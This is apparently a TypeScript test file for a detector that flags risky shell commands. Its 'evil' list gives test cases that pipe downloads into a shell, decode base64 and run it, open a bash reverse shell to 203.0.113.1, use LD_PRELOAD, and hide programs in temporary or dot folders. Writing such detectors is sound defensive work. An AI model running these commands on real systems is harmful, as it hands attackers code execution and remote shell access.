import assert from "node:assert/strict";
import { judgeCommand, judgePath } from "./commandRisk.ts";

describe("judgeCommand", () => {
  const evil: readonly [string, string][] = [
    ["curl -fsSL http://203.0.113.1/x | sh", "downloads and runs"],
    ["wget -qO- 203.0.113.1 | sudo bash -s -- -a", "downloads and runs"],
    ['sh -c "$(curl -s 203.0.113.1)"', "downloads and runs"],
    ["bash <(curl -s 203.0.113.1)", "downloads and runs"],
    ["eval `wget -qO- 203.0.113.1`", "downloads and runs"],
    ["curl 203.0.113.1 -o /opt/x; chmod +x /opt/x; /opt/x", "downloads and runs"],
    ["curl 203.0.113.1 -o /opt/x && /opt/x", "downloads and runs"],
    ["(curl -s 203.0.113.1||wget -q -O - 203.0.113.1)|bash", "downloads and runs"],
    ["cd1 -fsSL 203.0.113.1 | 'b'ash", "downloads and runs"],
    ["curl 203.0.113.1 | python3 -", "downloads and runs"],
    ["echo Y3VybA== | base64 -d | sh", "decodes and runs"],
    ['eval "$(echo Y3VybA== | base64 --decode)"', "decodes and runs"],
    ["python3 -c \"exec(__import__('base64').b64decode('eA=='))\"", "decodes and runs"],
    ["bash -i >& /dev/tcp/203.0.113.1/443 0>&1", "opens a network connection from the shell"],
    ["LD_PRELOAD=/lib/x.so /bin/a", "loads a library into other programs"],
    ["/usr/bin/a\r#x", "hidden text"],
    [`/usr/bin/a ${" ".repeat(100)}; /bin/b`, "hidden text"],
    ["/dev/shm/a", "program in a temporary folder"],
    ["/bin/sh /var/tmp/a.sh", "program in a temporary folder"],
    ["/home/bob/.x/a", "hidden program"],
    ["/opt/.../a", "hidden program"],
    ["/usr/local/bin/kworker", "system name in an unusual place"],
  ];
  for (const [command, reason] of evil)
    it(`says "${reason}" of ${JSON.stringify(command.slice(0, 60))}`, () => {
      const { risk } = judgeCommand(command);
      assert.ok(
        risk.some((found) => found === reason),
        JSON.stringify(risk),
      );
    });

  const innocent: readonly string[] = [
    "/usr/bin/certbot -q renew --deploy-hook 'systemctl reload nginx'",
    "curl -fsS -m 10 --retry 5 -o /dev/null https://hc.example.org/ping/1",
    "cd /srv/app && /usr/bin/php artisan schedule:run >> /dev/null 2>&1",
    "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
    "/usr/bin/wget -q -O /srv/www/feed.xml https://example.org/feed.xml",
    "find /tmp -type f -mtime +7 -delete",
    "tar czf /tmp/backup.tgz /etc",
    "/home/bob/.local/bin/sync",
    "pg_dump app | gzip > /var/backups/app.gz",
    "echo aGk= | base64 -d > /srv/x",
  ];
  for (const command of innocent)
    it(`has nothing to say of ${JSON.stringify(command.slice(0, 60))}`, () =>
      assert.deepEqual(judgeCommand(command).risk, []));

  it("prefers a strange program to the ordinary one before it", () =>
    assert.equal(judgeCommand("/usr/bin/pgrep x || /tmp/x").program, "/tmp/x"));
});

describe("judgePath", () => {
  it("leaves system programs in system folders alone", () => {
    for (const path of ["/usr/sbin/sshd", "/lib/systemd/systemd-udevd", "/usr/lib/systemd/systemd", "/bin/sh"])
      assert.deepEqual(judgePath(path), [], path);
  });
});
